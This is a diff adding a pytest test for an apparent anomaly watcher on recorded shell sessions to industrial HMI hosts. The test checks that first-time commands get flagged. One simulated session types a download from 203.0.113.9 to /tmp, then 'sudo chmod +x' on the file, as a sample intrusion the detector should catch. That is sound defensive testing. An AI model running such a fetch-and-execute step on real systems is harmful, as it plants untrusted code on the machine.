@@ -6,6 +6,8 @@ gateway's reports made the way the gateway API makes them."""
 from __future__ import annotations
 
 import datetime as dt
+import json
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -187,6 +189,50 @@ def test_more_sessions_at_once_than_ever_before_are_flagged(plant: Plant) -> Non
     [signal] = flag["signals"]
     assert (signal["signal"], signal["observed"], signal["usual"]) == (
         "many_sessions", "3 sessions open at once", "never more than 2 before")
+
+
+def _typed_session(plant: Plant, grant_id: str, recordings: Path, *commands: str) -> str:
+    """A recorded shell session in which these command lines were typed (and echoed)."""
+    session_id = _session(plant, grant_id, ends=False)
+    events = [[0.0, "o", "$ "]]
+    for command in commands:
+        events += [[0.1, "i", command + "\r"], [0.2, "o", command + "\r\n$ "]]
+    name = f"{session_id}.cast"
+    (recordings / name).write_text("\n".join(json.dumps(line) for line in
+                                             [{"version": 2, "width": 80, "height": 24}, *events]) + "\n")
+    plant.clock.advance(dt.timedelta(minutes=30))
+    with plant.session() as session:
+        gateways.end_session(session, now=plant.clock.now(), gateway=_gateway(session, plant), session_id=session_id,
+                             reason="client_closed", bytes_in=2000, bytes_out=5000, detail=None,
+                             recording={"name": name, "sha256": "0" * 64, "bytes": 1})
+    return session_id
+
+
+def _watch_reading(plant: Plant, recordings: Path) -> None:
+    """One pass as the broker makes it: typed programs read first (no write lock), then the watcher."""
+    with plant.session() as session:
+        typed = watcher.typed_ahead(session, recordings)
+    with plant.session() as session:
+        watcher.watch_once(session, now=plant.clock.now(), events=NullPublisher(), vault=plant.vault,
+                           typed_programs=typed)
+
+
+def test_a_program_typed_for_the_first_time_is_flagged_where_input_is_recorded(plant: Plant, tmp_path: Path) -> None:
+    grant_id = _history(plant)
+    for day in range(5):  # a week of looking at logs on hmi-01
+        plant.clock.set(MONDAY_9 + dt.timedelta(days=7 + day))
+        _typed_session(plant, grant_id, tmp_path, "tail -n 50 /var/log/hmi.log", "ls /opt/hmi")
+    _watch_reading(plant, tmp_path)
+    assert _open_flags(plant) == []
+    plant.clock.set(MONDAY_9 + dt.timedelta(days=14))
+    session_id = _typed_session(plant, grant_id, tmp_path, "ls /opt/hmi", "curl -o /tmp/x http://203.0.113.9/x",
+                                "sudo chmod +x /tmp/x")
+    _watch_reading(plant, tmp_path)
+    [flag] = _open_flags(plant)
+    assert flag["session"] == session_id
+    [signal] = flag["signals"]
+    assert (signal["signal"], signal["observed"], signal["usual"]) == (
+        "new_command", "first run of curl, chmod (typed)", "usually ls, tail")
 
 
 def test_always_high_flags_need_no_history(plant: Plant) -> None:
